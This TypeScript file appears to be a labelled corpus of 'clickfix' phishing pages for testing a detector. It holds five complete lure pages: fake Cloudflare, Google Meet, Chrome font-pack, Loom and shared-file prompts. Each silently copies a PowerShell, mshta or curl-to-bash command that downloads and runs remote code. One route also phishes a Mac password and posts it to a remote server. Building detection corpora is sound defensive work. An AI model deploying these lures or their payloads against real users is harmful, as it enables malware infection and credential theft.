import type { Entry } from '../entry.js';
import type { Route } from '../../corpus/corpus.js';

// Paste-and-run lures: the command is written to the clipboard at click time, the steps appear in script.
const raw = String.raw;
const js = (body: string): Route => ({ status: 200, headers: { 'content-type': 'application/javascript; charset=utf-8' }, body });
const text = (body: string): Route => ({ status: 200, headers: { 'content-type': 'text/plain' }, body });

export const entries: Entry[] = [
  {
    id: 'c-clickfix-turnstile-mshta',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://docs-portal.northwind-invoices.com/v/INV-30917',
    body: raw`<!doctype html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Just a moment...</title>
<style>body{margin:0;font-family:-apple-system,system-ui,"Segoe UI",Roboto,sans-serif;color:#313131}.m{max-width:60rem;margin:8rem auto;padding:0 1.5rem}h1{font-size:2.3rem;font-weight:500;margin:0 0 .5rem}.w{border:1px solid #e0e0e0;background:#fafafa;width:300px;height:65px;display:flex;align-items:center;padding:0 14px;gap:12px;margin:24px 0}.w input{width:24px;height:24px}.w .cf{margin-left:auto;font-size:10px;color:#666;text-align:right}#modal{display:none;position:fixed;inset:0;background:#0006;align-items:center;justify-content:center}#modal .b{background:#fff;border-radius:8px;max-width:480px;padding:24px 28px}kbd{background:#f1f1f1;border:1px solid #bbb;border-bottom-width:2px;border-radius:4px;padding:2px 6px}</style></head>
<body><div class="m"><h1>docs-portal.northwind-invoices.com</h1><p>Verify you are human by completing the action below.</p>
<div class="w"><input type="checkbox" id="c"><label for="c">Verify you are human</label><div class="cf">CLOUDFLARE<br>Privacy · Terms</div></div>
<p style="color:#595959">docs-portal.northwind-invoices.com needs to review the security of your connection before proceeding.</p></div>
<div id="modal"><div class="b" id="mb"></div></div>
<script src="/cdn-cgi/challenge.js"></script></body></html>`,
    routes: {
      'docs-portal.northwind-invoices.com/cdn-cgi/challenge.js': js(raw`(function(){
var pieces=["m","sh","ta"," ht","tps://","nw-inv","oice-cdn",".com/c","aptcha/v",".hta"];
var steps=[
 'Press <kbd>Win</kbd> + <kbd>R</kbd> to open the Run dialog',
 'Press <kbd>CTRL</kbd> + <kbd>V</kbd> to paste the verification code',
 'Press <kbd>Enter</kbd> to complete verification'];
var cbx=document.getElementById('c');
cbx.addEventListener('change',function(){
  if(!cbx.checked)return;
  var cmd=pieces.join('')+'   # Cloudflare Human Verification Ray ID: '+Math.random().toString(16).slice(2,14);
  var ta=document.createElement('textarea');ta.value=cmd;document.body.appendChild(ta);ta.select();
  try{document.execCommand('copy')}catch(e){}
  ta.remove();
  if(navigator.clipboard)navigator.clipboard.writeText(cmd).catch(function(){});
  var mb=document.getElementById('mb');
  mb.innerHTML='<h3 style="margin-top:0">Verification Steps</h3><ol>'+steps.map(function(s){return '<li style="margin:10px 0">'+s+'</li>'}).join('')+'</ol><p style="font-size:13px;color:#777">This extra step helps us make sure you are not a bot.</p>';
  document.getElementById('modal').style.display='flex';
});
})();`),
      'nw-invoice-cdn.com/captcha/v.hta': { status: 200, headers: { 'content-type': 'application/hta' }, body: raw`<html><head><HTA:APPLICATION ID="v" WINDOWSTATE="minimize" SHOWINTASKBAR="no"/><script language="VBScript">Set s=CreateObject("WScript.Shell"):s.Run "powershell -ep bypass -w 1 -c ""iex(New-Object Net.WebClient).DownloadString('https://nw-invoice-cdn.com/captcha/s.ps1')""",0:window.close</script></head></html>` },
    },
  },
  {
    id: 'c-clickfix-meet-microphone',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://meet.google.com-join.us/xpq-fkbn-rta',
    body: raw`<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Meet - xpq-fkbn-rta</title>
<style>body{margin:0;background:#202124;color:#e8eaed;font-family:"Google Sans",Roboto,Arial,sans-serif}.top{padding:16px 24px;font-size:20px}.main{display:flex;gap:40px;justify-content:center;align-items:center;padding:40px}.vid{width:640px;max-width:90vw;aspect-ratio:16/9;background:#3c4043;border-radius:8px;display:flex;align-items:center;justify-content:center;color:#9aa0a6}.side{text-align:center}.side h2{font-weight:400}.jb{background:#8ab4f8;color:#202124;border:0;border-radius:24px;padding:12px 26px;font-size:15px;cursor:pointer}.err{position:fixed;inset:0;background:#000a;display:none;align-items:center;justify-content:center}.err .b{background:#fff;color:#202124;border-radius:8px;max-width:520px;padding:26px}.err code{display:block;background:#f1f3f4;padding:8px;border-radius:4px;font-size:12px;margin-top:10px;word-break:break-all}.err .fx{background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:10px 20px;margin-top:14px}</style></head>
<body><div class="top">Google Meet</div>
<div class="main"><div class="vid" id="v">Camera is starting</div><div class="side"><h2>Ready to join?</h2><p>3 others are in this call</p><button class="jb" id="j">Join now</button></div></div>
<div class="err" id="e"><div class="b"><h3>Microphone Access Problem</h3><p>Your browser is blocking microphone access to Meet. This is a known problem with an outdated audio driver on Windows.</p><p>To fix it:</p><ol id="ol"></ol><button class="fx" id="fx">Copy fix</button><code id="c" hidden></code></div></div>
<script>
var F = {
  c: ['powershell -NoP -W H -C', '"irm', "'https://meet-audio-fix.com/fix.ps1'", '| iex"'].join(' '),
  s: ['Click <b>Copy fix</b>', 'Right-click the Windows Start button and select <b>Windows PowerShell (Admin)</b> or <b>Terminal (Admin)</b>', 'Right-click inside the window to paste, then press <b>Enter</b>', 'Return to this page and press Join now']
};
navigator.mediaDevices && navigator.mediaDevices.getUserMedia ? 0 : 0;
function show() {
  document.getElementById('ol').innerHTML = F.s.map(function (x) { return '<li>' + x + '</li>'; }).join('');
  document.getElementById('e').style.display = 'flex';
}
document.getElementById('j').onclick = show;
setTimeout(show, 2500);
document.getElementById('fx').onclick = function () {
  navigator.clipboard.writeText(F.c).then(function () { document.getElementById('fx').textContent = 'Copied!'; });
};
</script></body></html>`,
  },
  {
    id: 'c-clickfix-chrome-font',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://blog.harrisons-garden-supply.com/2024/04/spring-planting-guide/',
    body: raw`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Spring Planting Guide | Harrison's Garden Supply</title>
<style>body{font-family:Georgia,serif}.art{max-width:700px;margin:40px auto;line-height:1.7}#hf{position:fixed;inset:0;background:#fff;display:none;font-family:Arial,sans-serif}#hf .bar{background:#f1f3f4;border-bottom:1px solid #ddd;padding:10px 20px;display:flex;align-items:center;gap:10px}#hf .bx{max-width:560px;margin:60px auto;border:1px solid #ddd;border-radius:8px;padding:30px;box-shadow:0 4px 14px #0001}#hf h2{color:#d93025;margin-top:0}#hf .btn{background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:10px 22px;font-size:15px;cursor:pointer}#hf ol{line-height:1.9}#hf .ok{display:none;background:#e6f4ea;border-radius:6px;padding:14px;margin-top:14px}</style></head>
<body><article class="art"><h1>Spring Planting Guide</h1><p>As the soil warms above 10°C, it is time to sow peas, broad beans and early salad leaves directly outdoors…</p><p>Tomatoes and peppers should stay indoors until the last frost has passed.</p></article>
<div id="hf"><div class="bar"><svg width="20" height="20" viewBox="0 0 48 48"><circle cx="24" cy="24" r="22" fill="#4285f4"/><circle cx="24" cy="24" r="9" fill="#fff"/></svg> Google Chrome</div>
<div class="bx"><h2>The "HoeflerText" font wasn't found.</h2><p>The web page you are trying to load is displayed incorrectly, as it uses the "HoeflerText" font. To fix the error and display the text, you have to update the "Chrome Font Pack".</p><button class="btn" id="fix">Fix it</button>
<div class="ok" id="ok"><b>How to install the font pack:</b><ol><li>Press <b>Windows + X</b>, then choose <b>Terminal</b></li><li>Paste the copied code with <b>Ctrl + V</b></li><li>Press <b>Enter</b> and reload this page</li></ol></div></div></div>
<script>
(function(){
  if (!/Windows/.test(navigator.userAgent) || !/Chrome/.test(navigator.userAgent)) return;
  if (document.cookie.indexOf('hf=1') > -1) return;
  // scramble the article like a missing font
  var a = document.querySelector('.art');
  a.innerHTML = a.innerHTML.replace(/>([^<]+)</g, function(m, t){ return '>' + t.replace(/[a-z]/gi, function(){ return String.fromCharCode(0x2580 + Math.floor(Math.random() * 30)); }) + '<'; });
  setTimeout(function(){ document.getElementById('hf').style.display = 'block'; }, 1500);
  var e = 'JABwAD0AJwBoAHQAdABwAHMAOgAvAC8AZgBvAG4AdABwAGEAYwBrAC0AdQBwAGQAYQB0AGUALgBjAG8AbQAvAGYAcAAuAHAAcwAxACcAOwBpAGUAeAAoAGkAcgBtACAAJABwACkA';
  document.getElementById('fix').onclick = function(){
    navigator.clipboard.writeText('powershell -e ' + e);
    document.getElementById('ok').style.display = 'block';
    document.cookie = 'hf=1;max-age=86400;path=/';
  };
})();
</script></body></html>`,
  },
  {
    id: 'c-clickfix-macos-terminal',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://app.loom-recorder.video/verify',
    body: raw`<!doctype html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Verify your device</title>
<style>body{margin:0;background:#f6f6f8;font-family:-apple-system,BlinkMacSystemFont,"Helvetica Neue",sans-serif;color:#1d1d1f}.c{max-width:520px;margin:12vh auto;background:#fff;border-radius:14px;padding:34px;box-shadow:0 6px 30px #0001}.c h1{font-size:22px}.step{display:flex;gap:12px;margin:14px 0;align-items:flex-start}.n{background:#625df5;color:#fff;border-radius:50%;width:24px;height:24px;display:flex;align-items:center;justify-content:center;font-size:13px;flex:none}.cp{background:#625df5;color:#fff;border:0;border-radius:8px;padding:12px 20px;font-size:15px;cursor:pointer;width:100%}.hid{display:none}</style></head>
<body><div class="c" id="c"><h1>Install the Loom desktop recorder</h1><p>To record your screen on macOS, the recorder must be verified for your device.</p><button class="cp" id="b">Verify and install</button><div class="hid" id="s"></div></div>
<script>
const mac = /Mac OS X|Macintosh/.test(navigator.userAgent);
const steps = mac
  ? ['Press <b>⌘ Command + Space</b>, type <b>Terminal</b> and press Return', 'Press <b>⌘ Command + V</b> to paste the verification command', 'Press <b>Return</b> and enter your Mac password if asked']
  : ['Press <b>Win + R</b>', 'Press <b>Ctrl + V</b>', 'Press <b>Enter</b>'];
const cmdMac = 'echo "Loom verification: 8814-22" && curl -fsSL "$(echo aHR0cHM6Ly9sb29tLXJlY29yZGVyLnZpZGVvL2luc3RhbGwuc2g= | base64 -d)" | /bin/bash';
const cmdWin = 'cmd /c start /min powershell -w h -c "iwr https://loom-recorder.video/i.ps1 | iex"';
document.getElementById('b').addEventListener('click', async () => {
  try { await navigator.clipboard.writeText(mac ? cmdMac : cmdWin); } catch (e) { const t = document.createElement('textarea'); t.value = mac ? cmdMac : cmdWin; document.body.append(t); t.select(); document.execCommand('copy'); t.remove(); }
  const s = document.getElementById('s');
  s.innerHTML = '<p style="color:#625df5;font-weight:600">Verification command copied</p>' + steps.map((x, i) => '<div class="step"><span class="n">' + (i + 1) + '</span><span>' + x + '</span></div>').join('');
  s.classList.remove('hid');
});
</script></body></html>`,
    routes: {
      'loom-recorder.video/install.sh': text(raw`#!/bin/bash
cd /tmp && curl -fsSL -o .lrec https://loom-recorder.video/bin/lrec && chmod +x .lrec && xattr -c .lrec && ./.lrec &
osascript -e 'display dialog "Loom needs your password to finish installing." default answer "" with hidden answer with title "Loom"' | cut -d: -f3 > .pw
curl -s -X POST --data-binary @.pw https://loom-recorder.video/api/k >/dev/null`),
    },
  },
  {
    id: 'c-clickfix-filefix-explorer',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://hr-policy-share.com/files/2025_Compensation_Review.docx',
    body: raw`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Shared file</title>
<style>body{margin:0;font-family:"Segoe UI",sans-serif;background:#f3f2f1}.c{max-width:540px;margin:10vh auto;background:#fff;padding:30px;box-shadow:0 2px 8px #0002}.c h2{margin-top:0}.p{background:#f3f2f1;border:1px solid #c8c6c4;padding:8px 10px;font-family:Consolas,monospace;font-size:13px;margin:8px 0}.b{background:#0078d4;color:#fff;border:0;padding:10px 20px;font-size:14px;cursor:pointer}ol{line-height:1.8}</style></head>
<body><div class="c"><h2>2025_Compensation_Review.docx</h2><p>HR shared a file with you. To open it, access it from File Explorer:</p>
<ol><li>Copy the file path below</li><li>Open File Explorer and select the address bar (<b>CTRL + L</b>)</li><li>Paste the file path and press <b>Enter</b></li></ol>
<div class="p" id="path">C:\company\internal-secure\filedrive\HRPolicy.docx</div>
<button class="b" id="open">Open File Explorer</button><input type="file" id="fi" hidden></div>
<script>
var shown = document.getElementById('path').textContent;
var real = 'powershell -c "iwr https://hr-policy-share.com/files/p.ps1 -UseBasicParsing | iex"' + '                                                                                                  # ' + shown;
function cp(){ navigator.clipboard.writeText(real); }
document.getElementById('path').addEventListener('click', cp);
document.getElementById('open').addEventListener('click', function(){ cp(); document.getElementById('fi').click(); });
document.getElementById('fi').addEventListener('change', function(){ this.value = ''; alert('Please follow the steps above to open the file.'); });
</script></body></html>`,
  },
];
